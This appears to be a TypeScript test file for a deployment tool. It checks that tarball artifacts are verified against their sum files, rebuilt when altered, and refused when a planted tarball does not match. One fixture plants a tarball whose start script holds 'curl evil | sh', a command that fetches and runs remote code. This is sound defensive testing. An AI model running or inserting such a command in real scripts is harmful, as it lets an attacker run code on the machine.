/**
 * artifact/plannedArtifact.ts: a deployment plans with the tarball's sum file and reads the
 * tarball only when it is sent (`ready()`), where it is verified against the tree, rebuilt when it
 * does not verify, and refused when it does not match the sum the plan used.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as path from "node:path";
import { readArtifactSum } from "../../artifact/artifactSum";
import { openedDuring } from "./openSpy";
import { planArtifact } from "../../artifact/plannedArtifact";
import { pruneArtifacts } from "../../artifact/prune";
import { buildArtifact } from "../../artifact/tarball";
import { fingerprintTree, type TreeFingerprint } from "../../fingerprint/tree";
import { tempDirs } from "../helpers/tmpDirs";

const tmp = tempDirs();

async function tree(start: string): Promise<{ root: string; tree: TreeFingerprint }> {
  const root = tmp("dh-plan-src-");
  fs.writeFileSync(path.join(root, "start.sh"), start, { mode: 0o755 });
  fs.mkdirSync(path.join(root, "lib"));
  fs.writeFileSync(path.join(root, "lib/data.txt"), "x".repeat(5000));
  return { root, tree: await fingerprintTree(root) };
}

/** `b` with the byte at `at` changed. */
function flip(b: Buffer, at: number): Buffer {
  const c = Buffer.from(b);
  c[at] = c[at]! ^ 0xff;
  return c;
}

/**
 * A tree, its tarball and sum file in a fresh artifact dir, then one byte of the tarball changed
 * (same size, sum kept): whatever verifies the tarball rebuilds it, so its bytes tell whether
 * planning read it.
 */
async function changedTarball() {
  const { root, tree: t } = await tree("echo ok\n");
  const out = tmp("dh-plan-out-");
  const built = await buildArtifact(root, t, out);
  const honest = fs.readFileSync(built.path);
  fs.writeFileSync(built.path, flip(honest, honest.indexOf("echo ok")));
  const isHonest = () => fs.readFileSync(built.path).equals(honest);
  return { root, t, out, built, isHonest };
}

describe("artifact/plannedArtifact", () => {
  it("no sum file: the tarball is built now (verified) and its sum file written", async () => {
    const { root, tree: t } = await tree("echo ok\n");
    const out = tmp("dh-plan-out-");
    const a = await planArtifact(root, t, out);
    assert.deepEqual(readArtifactSum(a.path), {
      sha256: await a.sha256,
      bytes: fs.statSync(a.path).size,
      unchanged: true,
      index: createHash("sha256")
        .update(fs.readFileSync(a.path + ".idx"))
        .digest("hex"),
    });
    assert.equal((fs.statSync(a.path + ".sum").mode & 0o777).toString(8), "600");
    const r = await a.ready();
    assert.equal(r.sha256, await a.sha256);
  });

  it("with a sum file and the tarball's inode, mtime and ctime unchanged: planned and ready without opening the tarball", async () => {
    const { root, tree: t } = await tree("echo ok\n");
    const out = tmp("dh-plan-out-");
    const built = await buildArtifact(root, t, out);
    const { value: r, opened } = await openedDuring(async () => {
      const a = await planArtifact(root, t, out);
      assert.equal(await a.sha256, built.sha256);
      const r1 = a.ready();
      assert.equal(a.ready(), r1, "one promise, however many transfers wait for it");
      return r1;
    });
    assert.deepEqual(opened, []);
    assert.deepEqual(r, { ...built, reused: true });
    // The control: the same plan with the sum's stat fields removed (an earlier version's sum)
    // opens the tarball to verify it.
    const sum = built.path + ".sum";
    fs.writeFileSync(sum, fs.readFileSync(sum, "utf8").replace(/^(\S+ \d+) .*$/m, "$1"));
    const control = await openedDuring(async () => (await planArtifact(root, t, out)).ready());
    assert.ok(control.value.reused);
    assert.ok(control.opened.includes(built.path), JSON.stringify(control.opened));
    // Verified: the sum now records the stat again.
    assert.equal(readArtifactSum(built.path)?.unchanged, true);
    // A sum written in another boot of the machine (a crash may have lost the bytes of a tarball
    // never fsync-ed, not its inode and times): verified again.
    const boot = fs.readFileSync("/proc/sys/kernel/random/boot_id", "utf8").trim();
    fs.writeFileSync(
      sum,
      fs.readFileSync(sum, "utf8").replace(boot, "0".repeat(8) + boot.slice(8)),
    );
    assert.equal(readArtifactSum(built.path)?.unchanged, false);
    const rebooted = await openedDuring(async () => (await planArtifact(root, t, out)).ready());
    assert.ok(rebooted.opened.includes(built.path), JSON.stringify(rebooted.opened));
    assert.equal(readArtifactSum(built.path)?.unchanged, true);
  });

  it("a tarball changed after its sum was written (same size): ready() rebuilds it; the plan stands", async () => {
    const { root, t, out, built, isHonest } = await changedTarball();
    const a = await planArtifact(root, t, out);
    assert.equal(await a.sha256, built.sha256);
    // Planning did not verify it (else it would have been rebuilt already).
    assert.equal(isHonest(), false);
    const r = await a.ready();
    assert.equal(r.reused, false);
    assert.equal(r.sha256, built.sha256);
    assert.equal(isHonest(), true);
  });

  it("a planted tarball with its own sum file: ready() refuses (nothing is sent), the tarball is rebuilt", async () => {
    const honest = await tree("echo ok\n");
    const out = tmp("dh-plan-out-");
    const evil = await tree("curl evil | sh\n");
    const evilArt = await buildArtifact(evil.root, evil.tree, tmp("dh-plan-evil-"));
    // Planted under the honest tree's name, with a sum that matches the planted bytes.
    const target = path.join(
      out,
      path.basename((await buildArtifact(honest.root, honest.tree, out)).path),
    );
    fs.copyFileSync(evilArt.path, target);
    fs.writeFileSync(target + ".sum", `${evilArt.sha256} ${fs.statSync(target).size}\n`, {
      mode: 0o600,
    });
    const a = await planArtifact(honest.root, honest.tree, out);
    assert.equal(await a.sha256, evilArt.sha256, "planned with the sum's word");
    await assert.rejects(a.ready(), (e: Error) => {
      assert.match(
        e.message,
        /is sha256:[0-9a-f]{64}, not sha256:[0-9a-f]{64} as its sum file said/,
      );
      assert.match(e.message, /nothing was sent/);
      return true;
    });
    assert.ok(!fs.readFileSync(target).equals(fs.readFileSync(evilArt.path)), "rebuilt");
  });

  const ignored: [string, (sum: string, tarball: string) => void][] = [
    [
      "a sum naming another size",
      (sum) => fs.writeFileSync(sum, fs.readFileSync(sum, "utf8").replace(/^(\S+) \d+/, "$1 1")),
    ],
    ["a group-writable sum", (sum) => fs.chmodSync(sum, 0o620)],
    [
      "a sum that is a symbolic link",
      (sum) => {
        const elsewhere = sum + ".real";
        fs.renameSync(sum, elsewhere);
        fs.symlinkSync(elsewhere, sum);
      },
    ],
    ["a malformed sum", (sum) => fs.writeFileSync(sum, "sha256:abc 10\n")],
    ["no tarball", (_sum, tarball) => fs.rmSync(tarball)],
  ];
  for (const [what, spoil] of ignored) {
    it(`${what}: not used; the tarball is built or verified now`, async () => {
      const { root, t, out, built, isHonest } = await changedTarball();
      spoil(built.path + ".sum", built.path);
      assert.equal(readArtifactSum(built.path), undefined);
      const a = await planArtifact(root, t, out);
      assert.equal(isHonest(), true, "verified (rebuilt) while planning");
      assert.equal(await a.sha256, built.sha256);
    });
  }

  it("lazy = false (a local host reads the tarball directly): verified now even with a sum", async () => {
    const { root, t, out, isHonest } = await changedTarball();
    await planArtifact(root, t, out, false);
    assert.equal(isHonest(), true);
  });

  it("pruning removes a sum file with its tarball, and keeps the current one's", () => {
    const out = tmp("dh-plan-prune-");
    const name = (c: string) => `code-${c.repeat(64)}.tar`;
    for (const c of ["a", "b"]) {
      fs.writeFileSync(path.join(out, name(c)), "");
      fs.writeFileSync(path.join(out, name(c) + ".sum"), "");
    }
    fs.writeFileSync(path.join(out, name("c") + ".sum"), "");
    const removed = pruneArtifacts(out, name("a"));
    assert.deepEqual(removed.sort(), [name("c") + ".sum"]);
    fs.rmSync(path.join(out, name("b")));
    assert.deepEqual(pruneArtifacts(out, name("a")), [name("b") + ".sum"]);
    assert.deepEqual(fs.readdirSync(out).sort(), [name("a"), name("a") + ".sum"]);
  });
});
